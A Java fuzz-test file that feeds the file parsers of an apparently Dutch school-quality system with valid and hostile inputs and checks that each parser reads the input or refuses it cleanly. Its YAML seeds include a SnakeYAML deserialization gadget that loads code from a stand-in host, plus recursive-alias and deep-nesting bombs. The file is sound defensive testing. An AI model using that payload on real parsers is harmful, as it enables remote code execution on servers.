package nl.koers.attack;

import static org.assertj.core.api.Assertions.assertThat;

import com.code_intelligence.jazzer.junit.FuzzTest;
import com.code_intelligence.jazzer.mutation.annotation.NotNull;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Set;
import java.util.stream.Stream;
import nl.koers.documents.FileLook;
import nl.koers.documents.Upload;
import nl.koers.qualityframework.FrameworkVersion;
import nl.koers.qualityframework.internal.file.FrameworkFile;
import nl.koers.qualityframework.internal.file.FrameworkWriter;
import nl.koers.qualityframework.internal.file.WrongFile;
import nl.koers.register.Sector;
import nl.koers.register.internal.duo.DuoFile;
import nl.koers.register.internal.duo.DuoFiles;
import nl.koers.register.internal.duo.DuoLayouts;
import nl.koers.register.internal.figures.FigureFile;
import nl.koers.register.internal.figures.FigureTemplate;
import nl.koers.register.internal.figures.SchoolYear;
import nl.koers.writing.WordFile;
import org.junit.jupiter.params.provider.MethodSource;

/// The parsers of whole files, each begun with files that it takes and with files made to hurt: so Jazzer gets past the
/// head. A parser refuses in its own words or reads; nothing else.
class FileParserTests {
    private static final int SMALL = 64 * 1024;
    private static final Set<Sector> SECTORS = Set.of(Sector.PO);
    private static final List<FrameworkVersion> PUBLISHED =
            List.of(FrameworkFile.parse("", FrameworkFile.shipped("2021.yaml"), List.of()));

    /// What is small enough to be changed byte by byte.
    static Stream<byte[]> hostile() {
        return Stream.concat(HostileFiles.all().stream(), FetchingFiles.ordinary().stream())
                .map(HostileFiles::bytes)
                .filter(bytes -> bytes.length < SMALL);
    }

    @MethodSource("hostile")
    @FuzzTest(maxDuration = "20s")
    void the_bytes_of_a_word_file(byte @NotNull [] bytes) {
        assertThat(WordFile.read(bytes)).isInstanceOfAny(WordFile.Reading.Read.class, WordFile.Reading.Refused.class);
    }

    @MethodSource("hostile")
    @FuzzTest(maxDuration = "60s")
    void an_annex(byte @NotNull [] bytes) throws IOException {
        try (var upload = Upload.of(new ByteArrayInputStream(bytes))) {
            assertThat(FileLook.at(upload)).isInstanceOfAny(FileLook.Taken.class, FileLook.Refused.class);
        }
    }

    @MethodSource
    @FuzzTest(maxDuration = "60s")
    void a_file_of_duo(byte @NotNull [] bytes) {
        switch (DuoFile.read(bytes)) {
            case DuoFile.Reading.Read(var file) -> assertThat(file.locations()).isNotEmpty();
            case DuoFile.Reading.Refused refused -> isSentence(refused.words());
        }
    }

    static Stream<byte[]> a_file_of_duo() {
        var layouts = Stream.of(DuoLayouts.Layout.values())
                .map(it -> DuoLayouts.text(it, 3, DuoLayouts::name).getBytes(DuoLayouts.WINDOWS));
        var changed = Stream.of(
                DuoLayouts.shuffled(DuoLayouts.Layout.VO, 3, 1).getBytes(StandardCharsets.UTF_8),
                DuoFiles.file(DuoFiles.row("10AA00", "\"Een \"\"school\"\"; met meer\"")),
                DuoFiles.file(DuoFiles.row("10AA00", "Twee"), DuoFiles.row("10AA00", "keer")));
        return Stream.of(layouts, changed, hostile()).flatMap(it -> it);
    }

    @MethodSource
    @FuzzTest(maxDuration = "60s")
    void a_file_of_figures(byte @NotNull [] bytes) {
        switch (FigureFile.read(bytes, SECTORS)) {
            case FigureFile.Reading.Read(var figures) -> assertThat(figures).isNotEmpty();
            case FigureFile.Reading.Refused(var faults) ->
                assertThat(faults).isNotEmpty().allSatisfy(fault -> isSentence(fault.words()));
        }
    }

    static Stream<byte[]> a_file_of_figures() {
        var year = new SchoolYear(2026);
        var empty = FigureTemplate.csv(year, SECTORS);
        var full = new String(empty, StandardCharsets.UTF_8).replace(";\r\n", ";12\r\n");
        return Stream.concat(
                Stream.of(
                        FigureTemplate.spreadsheet(year, SECTORS),
                        empty,
                        full.getBytes(StandardCharsets.UTF_8),
                        full.replace(";12", ";<5").getBytes(StandardCharsets.UTF_16)),
                hostile());
    }

    /// What is read can be written, and read again as the same.
    @MethodSource
    @FuzzTest(maxDuration = "60s")
    void a_framework(byte @NotNull [] bytes) {
        try {
            var version = FrameworkFile.parse("kader", new String(bytes, StandardCharsets.UTF_8), PUBLISHED);
            assertThat(FrameworkFile.kept(FrameworkWriter.write(version))).isEqualTo(version);
        } catch (WrongFile wrong) {
            assertThat(wrong.faults()).isNotEmpty().allSatisfy(fault -> isSentence(fault.words()));
        }
    }

    static Stream<byte[]> a_framework() {
        var newer = FrameworkFile.shipped("2025.yaml");
        return Stream.of(
                        newer,
                        FrameworkFile.shipped("2021.yaml"),
                        newer.replace("kind: MERGED", "kind: SPLIT"),
                        newer.replace("from: [", "from: [W9.SO.9, "),
                        newer.replaceFirst("\"[^\"]{20,}\"", "|\n      a: *b\n"),
                        "&a [*a]",
                        "version: &a {b: *a}",
                        "version: !!javax.script.ScriptEngineManager [!!java.net.URL [\"http://elders.example/\"]]",
                        "a: ".repeat(500),
                        "[".repeat(5_000))
                .map(it -> it.getBytes(StandardCharsets.UTF_8));
    }

    private static void isSentence(String words) {
        assertThat(words).isNotBlank().doesNotContain("⟦", "{0}", "Exception");
    }
}
